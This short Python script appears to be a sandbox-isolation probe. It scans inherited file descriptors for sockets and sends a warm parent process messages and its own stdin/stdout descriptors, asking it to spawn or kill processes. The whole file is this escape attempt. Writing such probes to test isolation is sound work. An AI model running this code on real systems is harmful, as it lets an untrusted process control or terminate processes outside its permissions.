"""Asks the warm process for more processes and for the end of others, on any socket it finds."""

import os
import socket
import struct

for descriptor in range(1024):
    try:
        found = socket.socket(fileno=os.dup(descriptor))
    except OSError:
        continue
    for message in (struct.pack("<i", os.getppid()), struct.pack("<q", 1), b"task"):
        try:
            socket.send_fds(found, [message], [0, 1])
            print("attnpack-owned: a descriptor was sent on", descriptor)
        except OSError:
            pass
